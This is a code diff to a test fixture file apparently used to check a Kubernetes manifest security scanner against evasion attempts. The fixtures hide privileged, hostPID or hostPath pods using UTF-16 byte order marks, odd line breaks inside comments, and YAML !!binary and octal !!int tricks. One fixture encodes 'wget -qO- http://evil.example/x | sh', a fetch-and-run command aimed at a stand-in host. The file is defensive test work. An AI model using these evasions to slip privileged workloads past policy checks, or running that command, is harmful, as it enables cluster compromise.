@@ -13,8 +13,8 @@ import { hardenedObject } from './common';
 export interface CheckAttack {
   readonly name: string;
   readonly category: 'yaml-text' | 'hidden-objects';
-  /** Files by path relative to the folder `check` is given. */
-  readonly files: Readonly<Record<string, string>>;
+  /** Files by path relative to the folder `check` is given (text is written as UTF-8). */
+  readonly files: Readonly<Record<string, string | Uint8Array>>;
   readonly rule: string;
   /** The upstream evaluator, reading the files as Go does, refuses a pod in them (the attack is real for Pod Security). */
   readonly upstreamRefuses?: boolean;
@@ -83,11 +83,7 @@ export const CHECK_ATTACKS: readonly CheckAttack[] = [
     name: 'a hostPath volume in a .json file',
     category: 'hidden-objects', rule: 'HD010', upstreamRefuses: true,
     files: {
-      'app.json': JSON.stringify((() => {
-        const d = hardenedObject('json');
-        d.spec.template.spec.volumes.push({ name: 'root', hostPath: { path: '/' } });
-        return d;
-      })(), null, 2),
+      'app.json': JSON.stringify(withHostPath('json'), null, 2),
     },
   },
   {
@@ -110,7 +106,48 @@ export const CHECK_ATTACKS: readonly CheckAttack[] = [
     category: 'yaml-text', rule: 'HD033',
     files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)automountServiceAccountToken: false$/m, '$1automountServiceAccountToken: false # note\u0085$1hostIPC: true')) },
   },
+  ...([['LE', 'yaml', 'HD009'], ['BE', 'yaml', 'HD006'], ['LE', 'json', 'HD010']] as const).map(([order, ext, rule]): CheckAttack => ({
+    name: `a ${ext === 'json' ? 'JSON Deployment with a hostPath volume' : 'Deployment'} saved as UTF-16 ${order} with a byte order mark (kubectl converts it to UTF-8)`,
+    category: 'hidden-objects', rule, upstreamRefuses: order === 'BE', // Go's YAML reads UTF-16 BE itself; LE only once kubectl has converted it
+    files: { [`utf16-${order}.${ext}`]: utf16(order, ext === 'json' ? JSON.stringify(withHostPath('utf16'), null, 2) : deploymentText(rule === 'HD006' ? (t) => t.replace('privileged: false', 'privileged: true') : after(/^ +automountServiceAccountToken: false$/m, 'hostPID: true'))) },
+  })),
+  ...([['CR', '\r'], ['NEL', '\u0085'], ['U+2028', '\u2028'], ['U+2029', '\u2029']] as const).map(([label, brk]): CheckAttack => ({
+    name: `a whole hostPID Deployment in the comment of its first line, lines broken by ${label} (Go ends the comment there)`,
+    category: 'yaml-text', rule: 'HD033', upstreamRefuses: true,
+    files: { [`hidden-${label.replace('+', '')}.yaml`]: deploymentText(after(/^ +automountServiceAccountToken: false$/m, 'hostPID: true')).replace(/\n(?!$)/g, brk).replace(/^(apiVersion: apps\/v1)/, '$1 # generated') },
+  })),
+  {
+    name: 'a shell command written as !!binary strings (Go decodes them to text, the JS parser to bytes)',
+    category: 'yaml-text', rule: 'HD033',
+    files: { 'app.yaml': deploymentText(after(/^ +image: registry\.example\.com.*$/m, `command: [!!binary ${b64('/bin/sh')}, !!binary ${b64('-c')}, !!binary ${b64('wget -qO- http://evil.example/x | sh')}]`)) },
+  },
+  {
+    name: 'a toleration of every taint with its operator as !!binary',
+    category: 'yaml-text', rule: 'HD033',
+    files: { 'app.yaml': deploymentText(after(/^ +automountServiceAccountToken: false$/m, `tolerations: [{operator: !!binary ${b64('Exists')}}]`)) },
+  },
+  {
+    name: 'runAsUser: !!int "010000" (10000 to the JS parser, octal 4096 to Go)',
+    category: 'yaml-text', rule: 'HD033',
+    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)runAsUser: 65532$/m, '$1runAsUser: !!int "010000"')) },
+  },
 ];
+
+function b64(s: string): string {
+  return Buffer.from(s).toString('base64');
+}
+
+/** `text` as UTF-16 with its byte order mark, as Windows tools save it. */
+function utf16(order: 'LE' | 'BE', text: string): Uint8Array {
+  const le = Buffer.from(`\ufeff${text}`, 'utf16le');
+  return order === 'LE' ? le : le.swap16();
+}
+
+function withHostPath(name: string) {
+  const d = hardenedObject(name);
+  d.spec.template.spec.volumes.push({ name: 'root', hostPath: { path: '/' } });
+  return d;
+}
 
 /** The attack's files in a fresh folder; returns the folder. */
 export function writeAttack(a: CheckAttack): string {
